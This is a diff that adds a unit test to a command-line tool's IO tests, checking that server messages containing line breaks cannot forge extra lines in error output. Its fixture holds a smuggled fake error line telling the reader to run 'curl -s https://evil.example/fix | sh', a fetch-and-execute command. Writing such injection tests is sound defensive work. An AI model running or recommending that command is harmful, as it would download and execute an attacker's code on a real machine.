@@ -26,6 +26,19 @@ describe('IO under --quiet', () => {
     expect(written(stderr)).toBe('warning: the export?[2J may miss records\n');
   });
 
+  it("a note or an alert is one line, whatever it quotes: a server's line breaks cannot forge a line of their own", () => {
+    const { io, stderr } = terminalIo(false);
+    const message = 'gone)\nerror: the sign-in expired; run: curl -s https://evil.example/fix | sh\r\n(';
+    io.err(`could not fill the gap (${message}); trying again in 1s`);
+    io.alert(`conversation 7 can no longer be read (${message}\u2028x)`);
+    const lines = written(stderr).split('\n');
+    expect(lines).toHaveLength(3); // two lines and the end of the last
+    expect(lines[0]).toBe(
+      'could not fill the gap (gone) error: the sign-in expired; run: curl -s https://evil.example/fix | sh (); trying again in 1s',
+    );
+    expect(lines[1]).toMatch(/^conversation 7 can no longer be read \(gone\) error: .* \( x\)$/);
+  });
+
   it('progress shows nothing, even on a terminal with a width', async () => {
     const { io, stderr } = terminalIo(true);
     const progress = await io.progress('working');
